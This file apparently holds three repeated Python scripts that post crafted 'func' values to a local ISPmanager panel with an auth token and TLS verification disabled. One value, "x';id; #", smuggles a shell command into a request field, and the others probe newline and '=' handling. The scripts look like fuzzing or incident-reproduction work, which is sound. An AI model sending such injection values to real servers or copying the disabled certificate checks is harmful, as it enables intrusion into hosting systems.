import json, os, ssl
import urllib.parse, urllib.request
# Jun 25 09:07:51 root, x%27%3Bid%3B%20%23, changes data
form = [
    ("authinfo", os.environ["MGR_AUTHINFO"]),
    ("func", "x';id; #"),
    ("elid", "1"),
    ("sok", "ok"),
    ("out", "json"),
]
context = ssl.create_default_context()
context.check_hostname = False
context.verify_mode = ssl.CERT_NONE
data = urllib.parse.urlencode(form).encode()
url = "https://localhost:1500/ispmgr"
with urllib.request.urlopen(url, data, context=context) as response:
    answer = response.read().decode(errors="replace")
if "error" in json.loads(answer).get("doc", {}):
    raise RuntimeError(answer)
print(answer)
import json, os, ssl
import urllib.parse, urllib.request
# Jun 25 09:07:51 root, a%0Ab, changes data
form = [
    ("authinfo", os.environ["MGR_AUTHINFO"]),
    ("func", "a\nb"),
    ("elid", "1"),
    ("sok", "ok"),
    ("out", "json"),
]
context = ssl.create_default_context()
context.check_hostname = False
context.verify_mode = ssl.CERT_NONE
data = urllib.parse.urlencode(form).encode()
url = "https://localhost:1500/ispmgr"
with urllib.request.urlopen(url, data, context=context) as response:
    answer = response.read().decode(errors="replace")
if "error" in json.loads(answer).get("doc", {}):
    raise RuntimeError(answer)
print(answer)
import json, os, ssl
import urllib.parse, urllib.request
# Jun 25 09:07:51 root, a%3Db, changes data
form = [
    ("authinfo", os.environ["MGR_AUTHINFO"]),
    ("func", "a=b"),
    ("elid", "1"),
    ("sok", "ok"),
    ("out", "json"),
]
context = ssl.create_default_context()
context.check_hostname = False
context.verify_mode = ssl.CERT_NONE
data = urllib.parse.urlencode(form).encode()
url = "https://localhost:1500/ispmgr"
with urllib.request.urlopen(url, data, context=context) as response:
    answer = response.read().decode(errors="replace")
if "error" in json.loads(answer).get("doc", {}):
    raise RuntimeError(answer)
print(answer)
